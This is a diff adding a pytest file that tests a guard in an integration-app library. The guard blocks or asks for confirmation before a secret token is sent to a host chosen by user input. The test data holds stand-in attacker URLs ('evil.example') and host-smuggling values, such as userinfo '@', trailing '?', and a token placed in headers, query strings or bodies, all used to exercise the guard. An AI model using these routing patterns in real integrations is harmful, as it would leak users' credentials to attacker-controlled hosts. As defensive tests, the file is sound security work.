@@ -1,0 +1,199 @@
+from __future__ import annotations
+
+from contextlib import nullcontext
+from typing import Any
+
+import pytest
+
+from kustomer_nb import App, load
+from kustomer_nb.errors import GuardError
+from tests.samples import an_action, an_app, asking
+
+from .machines import Everywhere, Written, resolving
+
+SETTINGS = {"token": "s3cr3t-t0ken"}
+EVIL = {"x": "https://evil.example/x"}
+KEYS = {"token": {"key": "shop.default.token"}}
+
+
+def calling(uri: str, *, kind: str | None = "secret", **template: Any) -> App:
+    """Return an app whose one action sends the setting ``token`` in a header, and takes any inputs."""
+    whole = {"uri": uri, "method": "get", "headers": {"authorization": "Bearer {{{token}}}"}, **template}
+    action = an_action(appSettings=KEYS, inputTemplate=whole, sampleOutputContext={})
+    declared = {} if kind is None else {"default": {"token": {"type": kind, "defaultValue": ""}}}
+    return load(an_app(action, settings=declared))
+
+
+@pytest.mark.parametrize(
+    ("app", "inputs", "host"),
+    [
+        pytest.param(calling("{{{x}}}"), EVIL, "evil.example", id="the whole address"),
+        pytest.param(calling("/#x"), EVIL, "evil.example", id="as a reference"),
+        pytest.param(
+            calling("https://{{{x}}}.a.com/"), {"x": "evil.example/?"}, "evil.example", id="a delimiter"
+        ),
+        pytest.param(
+            calling("https://{{{x}}}.a.com/"), {"x": "a@evil.example:8/"}, "evil.example:8", id="a port"
+        ),
+        pytest.param(calling("https://{{{x}}}.co.uk/"), {"x": "evil"}, "evil.co.uk", id="another domain"),
+        pytest.param(
+            calling("{{{x}}}", headers={"x-a": "{{toLower token}}"}), EVIL, "evil.example", id="by a helper"
+        ),
+        pytest.param(
+            calling("{{{x}}}", headers={}, qs={"a": "/#token"}), EVIL, "evil.example", id="in the query"
+        ),
+        pytest.param(
+            calling("{{{x}}}", headers={}, json={"a": ["/#token"]}), EVIL, "evil.example", id="in the body"
+        ),
+        pytest.param(
+            calling("{{{x}}}?a={{{token}}}", headers={}), EVIL, "evil.example", id="in the uri itself"
+        ),
+        pytest.param(
+            calling("{{{x}}}", kind=None, headers={"x-a": "/#token"}), EVIL, "evil.example", id="of no type"
+        ),
+        pytest.param(calling("{{{x}}}", kind="string"), EVIL, "evil.example", id="text for authorization"),
+        pytest.param(
+            calling("{{{x}}}", kind="string", headers={}, qs={"api_key": "/#token"}),
+            EVIL,
+            "evil.example",
+            id="text for a key",
+        ),
+    ],
+)
+def test_a_secret_goes_to_a_host_that_an_input_chose_once_that_is_confirmed(
+    app: App, inputs: dict[str, Any], host: str, service: Everywhere
+) -> None:
+    action = app.action()
+
+    for confirm in (None, "a.com", "api.shop.com"):
+        with pytest.raises(GuardError) as caught:
+            action.run(inputs, settings=SETTINGS, confirm=confirm, transport=service.transport)
+        error = caught.value.diagnostics[0]
+        assert (error.code, error.pointer, caught.value.name) == ("KNB834", "/inputTemplate/uri", host)
+        assert "`x`" in error.message
+        assert host in error.message
+    assert service.hosts == []
+    action.run(inputs, settings=SETTINGS, confirm=host, transport=service.transport)
+    assert service.hosts == [host.partition(":")[0]]
+
+
+def test_a_preview_says_that_a_run_would_ask() -> None:
+    action = calling("{{{x}}}").action()
+
+    shown = action.render(EVIL, settings=SETTINGS).diagnostics
+    ordinary = action.render({"x": "http://127.0.0.1/"}, settings=SETTINGS).diagnostics
+
+    assert [(finding.code, finding.pointer) for finding in shown] == [("KNB612", "/inputTemplate/uri")]
+    assert all(part in shown[0].message for part in ("`x`", "evil.example", "$shop.default.token"))
+    assert ordinary.codes == []
+
+
+def test_an_output_of_a_step_is_an_input(service: Everywhere) -> None:
+    arguments: dict[str, Any] = {"settings": SETTINGS, "steps": {"find": {"url": EVIL["x"]}}}
+
+    with pytest.raises(GuardError) as caught:
+        calling("{{{x}}}").action().run({"x": "/#steps.find.url"}, transport=service.transport, **arguments)
+
+    assert caught.value.diagnostics.codes == ["KNB834"]
+    assert "evil.example" in str(caught.value)
+
+
+def test_a_host_is_confirmed_once_for_an_app(service: Everywhere) -> None:
+    app = calling("{{{x}}}")
+
+    def run(uri: str, confirm: str | None = None) -> None:
+        app.action().run({"x": uri}, settings=SETTINGS, confirm=confirm, transport=service.transport)
+
+    run("https://evil.example:8443/a", confirm="evil.example")
+    run("https://EVIL.example/b")
+    with pytest.raises(GuardError, match=r"KNB834 the host other\.example comes from"):
+        run("https://other.example/")
+
+    assert service.hosts == ["evil.example", "evil.example"]
+
+
+@pytest.mark.parametrize(
+    ("app", "inputs"),
+    [
+        pytest.param(calling("https://{{{x}}}.shop.com/"), {"x": "eu"}, id="one label"),
+        pytest.param(calling("https://api.shop.com/{{{x}}}"), {"x": "@evil.example"}, id="a path"),
+        pytest.param(calling("https://api.shop.com{{{x}}}"), {"x": "/orders"}, id="a path with its slash"),
+        pytest.param(calling("{{{x}}}", headers={"accept": "*/*"}), EVIL, id="no setting goes along"),
+        pytest.param(
+            calling("{{{x}}}", kind="string", headers={"x-shop": "{{{token}}}"}), EVIL, id="no secret does"
+        ),
+        pytest.param(calling("https://{{{token}}}/", headers={}), {}, id="the host of a setting"),
+        pytest.param(calling("{{{x}}}"), {"x": "http://127.0.0.1:8000/"}, id="this machine"),
+        pytest.param(calling("{{{x}}}"), {"x": "http://[::1]/"}, id="this machine by IPv6"),
+        pytest.param(calling("{{{x}}}"), {"x": "http://localhost/"}, id="this machine by name"),
+    ],
+)
+def test_an_ordinary_host_is_not_asked_about(app: App, inputs: dict[str, Any], service: Everywhere) -> None:
+    app.action().run(inputs, settings=SETTINGS, transport=service.transport)
+
+    assert len(service.hosts) == 1
+
+
+def test_the_token_of_an_app_account_is_a_secret(service: Everywhere) -> None:
+    action = asking("{{{x}}}", appAccountName="default")
+
+    with pytest.raises(GuardError) as caught:
+        action.run(EVIL, accounts={"default": "t0ken"}, transport=service.transport)
+
+    assert caught.value.diagnostics.codes == ["KNB834"]
+    assert service.hosts == []
+
+
+@pytest.mark.parametrize(
+    ("profile", "is_asked"),
+    [
+        pytest.param('allowed_hosts = ["*.example"]', False, id="a list of hosts ends the question"),
+        pytest.param('guard = "none"', True, id="that methods are free says nothing of hosts"),
+        pytest.param('hosts = { "https://evil.example" = "https://a.shop.com" }', False, id="sent elsewhere"),
+        pytest.param('hosts = { "https://a.example" = "https://a.shop.com" }', True, id="another one is"),
+    ],
+)
+def test_what_a_profile_says_of_hosts_counts(
+    profile: str, is_asked: bool, in_project: Written, service: Everywhere
+) -> None:
+    in_project(f"[profiles.p]\n{profile}\n")
+
+    with pytest.raises(GuardError, match="KNB834") if is_asked else nullcontext():
+        calling("{{{x}}}").action().run(EVIL, settings=SETTINGS, profile="p", transport=service.transport)
+
+
+def test_a_profile_that_guards_this_machine_asks_for_its_host_too(in_project: Written) -> None:
+    in_project('[profiles.p]\nguard = "confirm"\n')
+
+    with pytest.raises(GuardError, match="KNB834"):
+        calling("{{{x}}}").action().run({"x": "http://127.0.0.1/"}, settings=SETTINGS, profile="p")
+
+
+def test_the_name_of_the_host_confirms_the_method_too(in_project: Written, service: Everywhere) -> None:
+    in_project("[profiles.p]\n")
+    arguments = {"settings": SETTINGS, "profile": "p", "transport": service.transport}
+    action = calling("{{{x}}}", method="post").action()
+
+    with pytest.raises(GuardError) as caught:
+        action.run(EVIL, **arguments)
+    with pytest.raises(GuardError, match="KNB834"):
+        action.run(EVIL, confirm="p", **arguments)
+    action.run(EVIL, confirm="evil.example", **arguments)
+
+    assert caught.value.diagnostics.codes == ["KNB834", "KNB809"]
+    assert service.hosts == ["evil.example"]
+
+
+@pytest.mark.parametrize("mode", ["sample", "fault:429"])
+def test_where_nothing_is_sent_nobody_is_asked(mode: str) -> None:
+    assert calling("{{{x}}}").action().run(EVIL, settings=SETTINGS, mode=mode).mode == mode
+
+
+@pytest.mark.parametrize("addresses", [("203.0.113.5",), ("127.0.0.1", "203.0.113.5")])
+def test_a_chosen_localhost_that_is_another_machine_is_asked_about(addresses: tuple[str, ...]) -> None:
+    line = resolving(localhost=addresses)
+
+    with pytest.raises(GuardError) as caught:
+        calling("{{{x}}}").action().run({"x": "http://localhost/"}, settings=SETTINGS, transport=line)
+
+    assert (caught.value.diagnostics.codes, caught.value.name) == (["KNB834"], "localhost")
